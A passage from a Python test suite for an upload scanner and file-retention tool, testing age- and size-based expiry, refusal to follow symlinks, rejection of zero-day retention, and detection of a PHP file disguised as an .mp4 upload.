    (root / "job2").mkdir()
    files = {"job1/old.wav": (10, 100), "job1/newer.wav": (3, 100), "job2/new.wav": (1, 100), "top.mp4": (2, 100)}
    for rel, (days, size) in files.items():
        (root / rel).write_bytes(b"x" * size)
        _age(root / rel, days, now)
    _age(root / "job1", 10, now)
    logged = []
    deleted, kept = us.expire(str(root), 7, dry_run=True, now=now, log=logged.append)
    assert [d[0] for d in deleted] == [str(root / "job1/old.wav")] and (root / "job1/old.wav").exists()
    assert logged[0].startswith(f"would delete {root}/job1/old.wav (100 bytes")
    deleted, kept = us.expire(str(root), 7, max_bytes=250, now=now, log=logged.append)
    # Age first, then the oldest until 250 bytes remain.
    assert [os.path.basename(d[0]) for d in deleted] == ["old.wav", "newer.wav"]
    assert [d[3] for d in deleted] == ["older than 7 days", "directory over its cap of 250 bytes"]
    assert kept == 200 and sorted(p.name for p in root.rglob("*") if p.is_file()) == ["new.wav", "top.mp4"]
    assert not (root / "job1").exists()  # emptied by retention: removed
    assert root.exists()


def test_expire_never_follows_links(tmp_path):
    now = time.time()
    root = tmp_path / "up"
    root.mkdir()
    outside = tmp_path / "precious"
    outside.mkdir()
    (outside / "keep.txt").write_text("x")
    _age(outside / "keep.txt", 30, now)
    os.symlink(outside, root / "link")
    os.symlink(outside / "keep.txt", root / "filelink")
    us.expire(str(root), 7, now=now + 30 * 86400)
    assert (outside / "keep.txt").exists()


@pytest.mark.parametrize("days", [0, -1, None])
def test_expire_refuses_zero_days(tmp_path, days):
    with pytest.raises(us.UploadScanError, match="at least 1 day"):
        us.expire(str(tmp_path), days)


def test_runs_as_a_standalone_command(tree):
    """The host-side command is this very file, run by a bare Python with only the standard library."""
    import sys

    script = us.__file__
    found = subprocess.run(
        [sys.executable, "-I", "-S", script, "scan", "--settle", "0", str(tree / "uploads")],
        capture_output=True,
        text=True,
        check=True,
        cwd="/",
    )
    assert f"executable: {tree}/uploads/avatar.php.mp4: content is PHP code" in found.stdout
    assert "scanned" in found.stdout and found.stderr == ""
